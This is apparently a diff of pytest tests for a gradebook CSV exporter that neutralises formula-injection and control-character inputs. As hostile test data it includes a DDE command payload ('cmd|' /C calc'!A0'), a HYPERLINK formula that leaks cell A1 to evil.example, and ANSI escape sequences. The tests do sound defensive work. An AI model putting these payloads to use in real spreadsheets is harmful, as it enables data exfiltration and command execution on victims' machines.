@@ -315,8 +315,8 @@ def _round_trip(names: list[str], folder: Path) -> None:
         assert sorted(by_cell) == sorted(csv_cell(r.name) for r in results)
         for result in results:
             row = by_cell[csv_cell(result.name)]
-            assert csv_text(row[0]) == visible(result.name, keep="\t\r\n")
-            assert not _has_control(row[0], allowed="\t\r\n")
+            assert csv_text(row[0]) == visible(result.name)
+            assert not _has_control(row[0])
             assert row[1] == str(result.score)  # a number, also when negative
             assert row[2] == str(TOTAL)
             assert not row[0].lstrip(" ").startswith(tuple(FORMULA_STARTS))
@@ -358,8 +358,9 @@ def test_gradebook_record_export_merge_round_trip_nasty(tmp_path, capsys):
 @pytest.mark.parametrize("start", list(FORMULA_STARTS) + ["\n", " =", "  +"])
 @pytest.mark.parametrize("rest", ['HYPERLINK("http://x","y")', "1+1", "cmd|' /C calc'!A0", ""])
 def test_formula_cells_get_a_quote(start, rest):
-    assert csv_cell(start + rest) == "'" + start + rest
-    assert csv_text(csv_cell(start + rest)) == start + rest
+    # A tab, CR or LF is written as its escape ("\\t"), after the quote.
+    assert csv_cell(start + rest) == "'" + visible(start) + rest
+    assert csv_text(csv_cell(start + rest)) == visible(start + rest)
 
 
 @SETTINGS
@@ -367,8 +368,8 @@ def test_formula_cells_get_a_quote(start, rest):
 def test_csv_cells_are_safe_and_reversible(text):
     cell = csv_cell(text)
     assert not cell.lstrip(" ").startswith(tuple(FORMULA_STARTS + "\n"))
-    assert not _has_control(cell, allowed="\t\r\n")
-    shown_text = visible(text, keep="\t\r\n")
+    assert not _has_control(cell)
+    shown_text = visible(text)
     assert csv_text(cell) == shown_text
     assert cell == shown_text or cell == "'" + shown_text
 
@@ -593,7 +594,7 @@ def test_nasty_names_end_to_end(tmp_path):
         rows = {row[0]: row for row in list(csv.reader(handle))[1:]}
     assert set(rows) == {csv_cell(n) for n in names}
     assert "'=HYPERLINK(\"evil.example?\"&A1,\"x\")" in rows
-    assert "\\x1b[2J\\x1b[31mred\nline" in rows and "\x1b" not in (out / "grades.csv").read_text()
+    assert "\\x1b[2J\\x1b[31mred\\nline" in rows and "\x1b" not in (out / "grades.csv").read_text()
     assert all(row[1] == str(TOTAL) for row in rows.values())
     index = {row[0]: row[1] for row in read_index(out / "feedback")}
     assert set(index) == set(rows)
